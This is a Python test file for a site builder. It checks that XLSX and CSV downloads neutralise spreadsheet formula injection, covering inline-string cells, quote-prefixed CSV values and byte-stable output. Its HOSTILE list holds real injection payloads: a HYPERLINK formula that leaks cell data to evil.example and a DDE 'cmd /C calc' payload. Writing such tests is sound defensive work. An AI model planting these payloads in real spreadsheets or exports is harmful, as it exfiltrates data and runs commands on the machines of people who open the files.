"""Text handed to a spreadsheet stays text: no formula cells, CSV cells neutralised (OWASP)."""

from __future__ import annotations

import io
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from site_builder.present.sheetcells import csv_safe
from site_builder.site.downloads import csv_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "名称": HOSTILE,
            "数值": [1, -2.5, 3, 4, 5, 6],
            "负数文字": ["-", "普通", "=", "a=b", "", None],
        }
    )


def _unescaped(text: str) -> str:
    """A cell's text as Excel reads it: OOXML writes a control character as `_xHHHH_`
    (ECMA-376 ST_Xstring), which openpyxl leaves as it is in an inline string."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)


def test_xlsx_has_no_formula_cell_and_keeps_the_text():
    data = xlsx_bytes(_frame(), "=SUM(A1)")
    book = load_workbook(io.BytesIO(data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [_unescaped(c.value) for c in book.active["A"][1:]] == HOSTILE  # the text itself
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and sheet.count('t="inlineStr"') == 6 + 5 + 3  # every text cell
    assert book.active["B3"].value == -2.5  # numbers stay numbers


def test_xlsx_is_byte_stable_between_writes():
    import time

    first = xlsx_bytes(_frame(), "表")
    time.sleep(2.1)  # zip entries carry a two-second clock; core.xml the save time
    assert xlsx_bytes(_frame(), "表") == first
    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert "2020-04-16" in core


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_beginning_with_a_formula_character_are_quoted(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["普通", "a=b", "", 3, -2.5, None])
def test_csv_other_cells_are_unchanged(value):
    assert csv_safe(value) == value


def test_csv_file_neutralises_every_text_cell_and_keeps_numbers():
    frame = pd.read_csv(
        io.BytesIO(csv_bytes(_frame())), encoding="utf-8-sig", keep_default_na=False
    )
    assert list(frame["名称"]) == ["'" + t for t in HOSTILE]
    assert list(frame["数值"]) == [1, -2.5, 3, 4, 5, 6]
    assert list(frame["负数文字"])[:4] == ["'-", "普通", "'=", "a=b"]
    for column in frame.columns:
        for value in frame[column]:
            assert not (isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("audience", ["public", "internal"])
def test_every_download_of_hostile_names_has_no_formula(base_tree, tmp_path, today, audience):
    """Project names, case titles and summaries that are formulas, through the real downloads."""
    from site_builder.analyse.view import make_view
    from site_builder.cli.stages import load_analysis
    from site_builder.site.downloads import write_downloads

    project = base_tree / "submissions/projects/alpha-region/project.yaml"
    project.write_text(
        project.read_text(encoding="utf-8").replace("name: 测试区域项目", f"name: '{HOSTILE[0]}'"),
        encoding="utf-8",
    )
    report = base_tree / "submissions/projects/alpha-region/2021-Q2.yaml"
    report.write_text(
        report.read_text(encoding="utf-8")
        .replace("title: 测试案例", "title: '=1+2'")
        .replace("summary: 一个测试用的案例摘要。", "summary: '@SUM(1,1)'"),
        encoding="utf-8",
    )
    view = make_view(load_analysis(base_tree, None), audience)
    written = write_downloads(view, tmp_path)
    assert written
    seen_formula_text = False
    for dataset, _ in written:
        book = load_workbook(tmp_path / "data" / f"{dataset.name}.xlsx")
        for row in book.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (dataset.name, cell.coordinate, cell.value)
                seen_formula_text |= isinstance(cell.value, str) and cell.value.startswith("=")
        raw = (tmp_path / "data" / f"{dataset.name}.csv").read_bytes()
        frame = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for value in frame.to_numpy().ravel():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (dataset.name, value)
    assert seen_formula_text, "the hostile text reached the downloads, as text"
